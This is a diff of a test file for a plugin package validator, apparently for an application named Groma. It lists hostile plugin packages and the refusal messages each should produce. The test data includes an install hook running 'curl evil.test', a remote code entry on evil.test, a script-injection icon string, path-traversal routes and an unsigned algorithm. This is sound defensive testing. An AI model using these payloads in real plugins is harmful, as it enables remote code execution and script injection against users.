@@ -33,6 +33,24 @@ const entriesOf = (files: PackageFiles): ZipEntry[] =>
   [...files].map(([name, content]) => ({ name, content: Buffer.from(content) }));
 const named = (name: string) => zip([...entriesOf(own()), { name, content: text('x') }]);
 
+const TEXTS = { en: { one: 'One' }, it: { one: 'Uno' } };
+/** A full plugin with these contributions. */
+const full =
+  (contributes: object, more: object = {}) =>
+  () =>
+    zipped(own({ kind: 'full', permissions: [], texts: TEXTS, contributes, ...more }));
+const PANEL = { id: 'acme-wells.one', title: 'one', icon: 'table', render: 'acme-wells.One', order: 1 };
+const PAGE = { path: '/plugin/acme-wells/one', render: 'acme-wells.One', title: 'one' };
+const TOOL = {
+  id: 'acme-wells.one',
+  title: 'one',
+  icon: 'table',
+  order: 1,
+  group: 'draw',
+  viewer: '2d',
+  route: '2doutside/acme-wells/one',
+};
+
 const OTHER_FILE = 'may only contain';
 /** Each package, and a part of the sentence by which it is refused. */
 const HOSTILE: Record<string, [() => Buffer | Promise<Buffer>, string]> = {
@@ -98,7 +116,10 @@ const HOSTILE: Record<string, [() => Buffer | Promise<Buffer>, string]> = {
     'cannot be used',
   ],
   'an address as its code': [() => zipped(own({ entry: 'https://evil.test/x.js' })), 'cannot be used'],
-  'another plugin that comes with it': [() => zipped(own({ requires: ['acme-other'] })), 'cannot be used'],
+  'another plugin that comes with it': [
+    () => zipped(own({ requires: ['acme-other'] })),
+    'only a full plugin has “requires”',
+  ],
   'a hook at installation': [() => zipped(own({ postinstall: 'curl evil.test' })), 'cannot be used'],
   'another format': [() => zipped(own({ format: 2 })), 'format'],
   'a version of Groma that is not this': [() => zipped(own({ groma: '^2' })), 'made for Groma “^2”'],
@@ -166,6 +187,57 @@ const HOSTILE: Record<string, [() => Buffer | Promise<Buffer>, string]> = {
       ],
     ),
   ),
+  'parts of a full plugin, contained': [
+    () => zipped(own({ contributes: { panels: [PANEL] }, texts: TEXTS })),
+    'only a full plugin has “contributes”',
+  ],
+  'parts of a contained plugin, full': [
+    full({}, { panels: [{ id: 'one', title: { en: 'a', it: 'a' } }] }),
+    'only contained ones have “panels”',
+  ],
+  'a kind that does not exist': [() => zipped(own({ kind: 'native' })), 'kind'],
+  'the page of signing in': [full({ routes: [{ ...PAGE, path: '/login' }] }), 'an address of its own'],
+  'a page for everybody': [full({ routes: [{ ...PAGE, public: true }] }), 'cannot be used'],
+  'an address of another plugin': [
+    full({ routes: [{ ...PAGE, path: '/plugin/acme-wellsx/a' }] }),
+    'of its own',
+  ],
+  'an address upwards': [full({ routes: [{ ...PAGE, path: '/plugin/acme-wells/../../a' }] }), 'of its own'],
+  'the address of a tool of ours': [full({ tools: [{ ...TOOL, route: '2ddrawtools/point' }] }), 'of its own'],
+  'the address of a tool of ours elsewhere': [
+    full({ tools: [{ ...TOOL, also: { '3d': '3ddrawtools/point' } }] }),
+    'of its own',
+  ],
+  'the service of a plugin of ours': [
+    full({ panels: [{ ...PANEL, render: 'layers.Panel' }] }),
+    'render must begin with “acme-wells.”',
+  ],
+  'the command of a plugin of ours': [
+    full({ commands: [{ id: 'draw.point', title: 'one' }] }),
+    'must begin with',
+  ],
+  'a setting of ours': [
+    full({ settings: [{ key: 'theme', title: 'one', section: 'one', kind: 'text', default: '', order: 1 }] }),
+    'must begin with',
+  ],
+  'a viewer in place of the map': [full({ viewers: [{ ...PANEL, viewer: '2d' }] }), 'cannot be used'],
+  'an icon that is markup': [
+    full({ panels: [{ ...PANEL, icon: { path: '"/><script>alert(1)</script>' } }] }),
+    'cannot be used',
+  ],
+  'an authorization that does not exist': [
+    full({ panels: [{ ...PANEL, needs: ['root'] }] }),
+    'cannot be used',
+  ],
+  'a permission that a full plugin has anyway': [
+    full({}, { permissions: ['objects.write:*'] }),
+    'can only ask for “store”',
+  ],
+  'a title without a text': [full({ panels: [{ ...PANEL, title: 'two' }] }), 'lacks a text'],
+  'a text in one language': [
+    full({}, { texts: { en: { one: 'One', two: 'Two' }, it: { one: 'Uno' } } }),
+    'lacks a text',
+  ],
   'another algorithm': [
     () => withSignature((signature) => ({ ...signature, algorithm: 'none' })),
     'algorithm',
